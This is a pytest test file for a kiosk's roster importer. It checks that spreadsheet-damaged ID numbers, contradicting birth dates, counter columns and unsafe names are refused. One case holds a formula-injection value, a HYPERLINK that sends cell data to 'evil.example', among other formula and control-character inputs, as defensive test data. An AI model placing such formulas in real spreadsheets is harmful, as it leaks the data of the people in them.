"""Roster traps (kiosk/desk/imports/members.py): ID numbers a spreadsheet turned into numbers, typed
birth dates and genders the ID number contradicts, 编号 columns, a class list and then a roster,
names padded, cut by an encoding conversion or made to be formulas, other header names, and a
name read from an ID card that the roster would change."""

import json
from datetime import date

import pytest

from kiosk.desk import imports
from kiosk.desk.imports import RowError
from kiosk.i18n import t
from kiosk.identity import ids
from kiosk.people import members as people
from kiosk.people import newcomers
from kiosk.staff.audit import Actor
from kiosk.store.models import Audit, Enrollment, Member, NewcomerCard, Outbox, Site
from tests.kiosk.builders import MEMBER_PREFIX

from .files import ID_QIAN, ID_SUN, ID_ZHAO, NOW, TAICHI, csv_file, excel_damaged, xlsx


@pytest.fixture
def actor(settings) -> Actor:
    return Actor.of(None, settings)


def members(actor, path, settings, **kw):
    return imports.import_members(actor, path, NOW, settings, **kw)


def counts() -> dict:
    return {m.__name__: m.select().count() for m in (Member, Enrollment, Outbox, Audit)}


def member_facts() -> list[dict]:
    return [json.loads(o.payload) for o in Outbox.select().where(Outbox.kind == "member").order_by(Outbox.seq)]


# -- ID numbers a spreadsheet kept as numbers ----------------------------------------------------------


def test_an_id_column_of_spreadsheet_numbers_is_refused_even_when_the_number_passes_the_check(
    tmp_path, world, actor, settings
):
    real, kept = excel_damaged()
    assert ids.id_problem(str(kept)) is None and str(kept) != real  # passes, yet is someone else's
    path = xlsx(tmp_path / "r.xlsx", [["姓名", "性别", "身份证号"], ["赵国强", "男", kept], ["钱秀英", "女", ID_QIAN]])
    report = members(actor, path, settings)
    assert report.errors == [RowError(2, "身份证号", t("imports.id_as_number"))]
    assert str(report.errors[0]).startswith("第 2 行 C 列「身份证号」：")
    assert "文本" in t("imports.id_as_number")  # says to format the column as text
    assert Member.select().count() == 0


@pytest.mark.parametrize("cell", ["1.10105E+17", "1.10105194803017E+17"])
def test_an_id_number_in_scientific_notation_in_a_csv(tmp_path, world, actor, settings, cell):
    report = members(actor, csv_file(tmp_path / "r.csv", [["姓名", "身份证号"], ["赵国强", cell]]), settings)
    assert report.errors == [RowError(2, "身份证号", t("imports.id_as_number"))]


def test_a_csv_column_of_numbers_cut_to_fifteen_digits(tmp_path, world, actor, settings):
    real, kept = excel_damaged()
    rows = [["姓名", "身份证号"], ["赵国强", str(kept)], ["孙丽", str(int(ID_SUN) // 1000 * 1000)]]
    report = members(actor, csv_file(tmp_path / "r.csv", rows), settings)
    assert [(e.row, e.message) for e in report.errors] == [
        (2, t("imports.id_as_number")),
        (3, t("imports.id_as_number")),
    ]


def test_a_real_number_ending_in_000_among_others_goes_in(tmp_path, world, actor, settings):
    _, kept = excel_damaged()  # a valid number that happens to end in 000
    rows = [["姓名", "身份证号"], ["赵国强", str(kept)], ["钱秀英", ID_QIAN], ["孙丽", ID_SUN]]
    report = members(actor, csv_file(tmp_path / "r.csv", rows), settings)
    assert report.errors == [] and report.created == 3


# -- what the ID number says ------------------------------------------------------------------------


def test_typed_birth_dates_and_genders_the_id_number_contradicts(tmp_path, world, actor, settings):
    path = xlsx(
        tmp_path / "r.xlsx",
        [
            ["姓名", "性别", "出生日期", "出生年份", "身份证号"],
            ["赵国强", "女", "", "", ID_ZHAO],  # the number says a man
            ["钱秀英", "", "1952-07-16", "", ID_QIAN],  # … born the 15th
            ["孙丽", "", "", 1950, ID_SUN],
        ],
    )
    report = members(actor, path, settings)
    assert report.errors == [
        RowError(2, "性别", t("imports.id_other_gender", typed="女", card="男")),
        RowError(3, "出生日期", t("imports.id_other_date", typed="1952-07-16", card="1952-07-15")),
        RowError(4, "出生年份", t("imports.id_other_date", typed=1950, card="1949-10-10")),
    ]
    assert Member.select().count() == 0


def test_typed_values_that_agree_with_the_id_number(tmp_path, world, actor, settings):
    path = xlsx(
        tmp_path / "r.xlsx",
        [
            ["姓名", "性别", "出生年月", "公民身份号码"],
            ["赵国强", "男性", "1948.03", ID_ZHAO],
            ["钱秀英", "", "", ID_QIAN],
        ],
    )
    assert members(actor, path, settings).errors == []
    zhao, qian = Member.select().order_by(Member.id)
    assert (zhao.gender, qian.gender) == ("男", "女")  # 女 from the number
    # The birth month was checked against the number, and is not kept (docs/design.md §9.1).
    assert [sorted({"birth_year", "birth_date"} & f.keys()) for f in member_facts()] == [[], []]


def test_a_birth_month_the_id_number_contradicts(tmp_path, world, actor, settings):
    path = xlsx(tmp_path / "r.xlsx", [["姓名", "出生年月", "身份证"], ["赵国强", "1948年4月", ID_ZHAO]])
    assert members(actor, path, settings).errors == [
        RowError(2, "出生年月", t("imports.id_other_date", typed="1948-04", card="1948-03-02"))
    ]


@pytest.mark.parametrize("cell", ["1948-03", "1948.3", "1948年3月", "194803", date(1948, 3, 1)])
def test_a_birth_month_as_people_type_it(tmp_path, world, actor, settings, cell):
    assert members(actor, xlsx(tmp_path / "r.xlsx", [["姓名", "出生年月"], ["赵国强", cell]]), settings).errors == []
    assert Member.get().name == "赵国强"  # the month is checked, not kept (docs/design.md §9.1)
    # Read as March 1948, whatever the form: that is what an ID number of another month is told.
    other = xlsx(tmp_path / "q.xlsx", [["姓名", "出生年月", "身份证号"], ["钱秀英", cell, ID_QIAN]])
    assert members(actor, other, settings).errors == [
        RowError(2, "出生年月", t("imports.id_other_date", typed="1948-03", card="1952-07-15"))
    ]


def test_a_birth_month_a_number_cell_cut_short_is_refused(tmp_path, world, actor, settings):
    # 1948.10 typed into a General cell is the number 1948.1: October or January?
    report = members(actor, xlsx(tmp_path / "r.xlsx", [["姓名", "出生年月"], ["赵国强", 1948.1]]), settings)
    assert report.errors == [RowError(2, "出生年月", t("imports.bad_month", value="1948.1"))]


# -- 编号 and 序号 ---------------------------------------------------------------------------------------


def test_a_numbering_column_is_not_taken_for_member_numbers(tmp_path, world, actor, settings):
    world.member(f"{MEMBER_PREFIX}0007", "老学员")  # numbers go on from the highest of the site's prefix
    path = xlsx(tmp_path / "r.xlsx", [["编号", "姓名"], [1, "赵国强"], [2, "钱秀英"], [3, "孙丽"]])
    report = members(actor, path, settings)
    assert report.errors == [] and report.created == 3
    assert t("imports.counter_column", column="编号") in report.warnings
    assert [m.member_no for m in Member.select().where(Member.name != "老学员").order_by(Member.id)] == [
        f"{MEMBER_PREFIX}0008",
        f"{MEMBER_PREFIX}0009",
        f"{MEMBER_PREFIX}0010",
    ]


def test_a_numbering_column_of_member_numbers_is_used(tmp_path, world, actor, settings):
    wang = world.member("DM0007", "王建华")
    path = xlsx(
        tmp_path / "r.xlsx", [["编号", "姓名", "手机号"], ["DM0007", "王建华", "13812345678"], ["", "钱秀英", ""]]
    )
    report = members(actor, path, settings)
    assert report.errors == [] and (report.created, report.updated) == (1, 1)
    assert Member.get_by_id(wang.id).phone == "13812345678"


def test_a_row_counter_in_a_member_number_column_is_refused(tmp_path, world, actor, settings):
    path = xlsx(tmp_path / "r.xlsx", [["编号", "姓名"], ["DM0001", "赵国强"], [2, "钱秀英"]])
    report = members(actor, path, settings)
    assert report.errors == [RowError(3, "编号", t("imports.not_member_no", value="2"))]
    assert str(report.errors[0]).startswith("第 3 行 A 列「编号」：")


# -- a class list, then the roster -------------------------------------------------------------------


def test_a_roster_with_id_numbers_finds_the_members_a_class_list_brought(tmp_path, world, actor, settings):
    world.course(TAICHI)
    members(actor, xlsx(tmp_path / "班.xlsx", [["姓名", "课程"], ["赵国强", TAICHI], ["钱秀英", TAICHI]]), settings)
    before = Member.select().count()
    roster = xlsx(
        tmp_path / "名单.xlsx",
        [["姓名", "手机号码", "身份证号"], ["赵国强", "13812345678", ID_ZHAO], ["钱　秀英", "", ID_QIAN]],
    )
    report = members(actor, roster, settings)
    assert report.errors == [] and (report.created, report.updated) == (0, 2)
    assert Member.select().count() == before
    zhao = Member.get(Member.name == "赵国强")
    assert (zhao.id_hash, zhao.phone, zhao.gender) == (ids.id_hash(ID_ZHAO, world.id_key), "13812345678", "男")
    assert t("imports.matched_by_name", row="第 2 行", name="赵国强", member_no=zhao.member_no) in report.warnings
    assert members(actor, roster, settings).unchanged == 2  # and again: by the ID numbers now


def test_two_namesakes_without_id_numbers_need_the_member_number(tmp_path, world, actor, settings):
    world.member("DM0001", "王芳")
    world.member("DM0002", "王芳")
    world.member("DM0003", "王芳", phone="13900009999")  # another phone: someone else
    elsewhere = Site.create(code="DEMO-002", name="东城街道长者服务站")
    Member.create(member_no="DC0001", name="王芳", site=elsewhere)  # another site's: not this roster's
    report = members(
        actor, xlsx(tmp_path / "r.xlsx", [["姓名", "手机号", "身份证号"], ["王芳", "13812345678", ID_QIAN]]), settings
    )
    assert report.errors == [
        RowError(2, "姓名", t("imports.namesakes_without_id", name="王芳", numbers="DM0001、DM0002"))
    ]


# -- names -----------------------------------------------------------------------------------------


def test_padding_in_a_name_is_not_part_of_it(tmp_path, world, actor, settings):
    wang = world.member("DM0001", "王芳", phone="13812345678")
    rows = [
        ["姓名", "手机号"],
        ["王　芳", "13812345678"],
        ["欧阳 淑珍", ""],
        ["Maria  Lopez", ""],
        ["阿依古丽 · 买买提", ""],
    ]
    report = members(actor, xlsx(tmp_path / "r.xlsx", rows), settings)
    assert report.errors == [] and (report.created, report.unchanged) == (3, 1)  # 王芳 found by name and phone
    assert Member.get_by_id(wang.id).name == "王芳"
    assert [m.name for m in Member.select().where(Member.id != wang.id).order_by(Member.id)] == [
        "欧阳淑珍",
        "Maria Lopez",
        "阿依古丽·买买提",
    ]


@pytest.mark.parametrize(
    "name, key",
    [
        ("王?华", "imports.name_lost_char"),
        ("王？华", "imports.name_lost_char"),
        ("王\ufffd华", "imports.name_lost_char"),
        ("王□华", "imports.name_lost_char"),
        ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "imports.name_formula"),
        ("@SUM(1+1)", "imports.name_formula"),
        ("+王华", "imports.name_formula"),
        ("-王华", "imports.name_formula"),
        ("王\x1b[31m华", "imports.name_control"),
        ("王\u200b华", "imports.name_control"),
    ],
)
def test_a_name_that_cannot_be_stored_as_it_is(tmp_path, world, actor, settings, name, key):
    # A CSV: a workbook can hold neither control characters nor text starting with = as such.
    report = members(actor, csv_file(tmp_path / "r.csv", [["姓名"], ["赵国强"], [name]]), settings)
    assert report.errors == [RowError(3, "姓名", t(key, value=name))]
    assert Member.select().count() == 0


def test_a_gb18030_csv_with_a_lost_character(tmp_path, world, actor, settings):
    # What converting a UTF-8 roster to GBK leaves of 䶮 (not in GBK): a question mark.
    path = tmp_path / "r.csv"
    path.write_bytes("姓名,手机号\n王䶮华,13812345678\n".encode("gbk", errors="replace"))
    report = members(actor, path, settings)
    assert report.errors == [RowError(2, "姓名", t("imports.name_lost_char", value="王?华"))]


# -- names read from an ID card ------------------------------------------------------------------------


@pytest.fixture
def registered(world, actor, settings):
    """王建华, registered at this kiosk from his ID card (staff mode, 新学员)."""
    newcomers.remember(world.idcard(ID_ZHAO, name="王建华"), ids.id_hash(ID_ZHAO, world.id_key), NOW)
    return people.register(actor, NewcomerCard.get().id, NOW, settings).member_no


def test_a_name_read_from_an_id_card_changes_only_when_confirmed(tmp_path, world, actor, settings, registered):
    path = xlsx(tmp_path / "r.xlsx", [["学员编号", "姓名"], [registered, "王建国"], ["", "钱秀英"]])
    line = t("imports.rename", row="第 2 行", member_no=registered, old="王建华", new="王建国")

    checked = members(actor, path, settings, dry_run=True)
    assert (checked.errors, checked.renames, checked.needs_confirm) == ([], [line], True)
    before = counts()
    held = members(actor, path, settings)
    assert (held.renames, held.needs_confirm, held.ok) == ([line], True, False)
    assert counts() == before  # nothing at all written

    done = members(actor, path, settings, overwrite_verified=True)
    assert done.ok and (done.created, done.updated) == (1, 1)
    assert Member.get(Member.member_no == registered).name == "王建国"
    assert members(actor, path, settings).renames == []  # the name is the roster's now


def test_names_not_from_a_card_or_only_filled_in_need_no_confirmation(tmp_path, world, actor, settings):
    newcomers.remember(world.idcard(ID_QIAN, name="钱□英"), ids.id_hash(ID_QIAN, world.id_key), NOW)
    flagged = people.register(actor, NewcomerCard.get().id, NOW, settings, name_confirmed=True).member_no
    world.member("DM0100", "赵国强")  # typed in by an earlier import
    path = xlsx(tmp_path / "r.xlsx", [["学员编号", "姓名"], [flagged, "钱秀英"], ["DM0100", "赵国华"]])
    report = members(actor, path, settings)
    assert report.ok and (report.renames, report.updated) == ([], 2)
    assert Member.get(Member.member_no == flagged).name == "钱秀英"
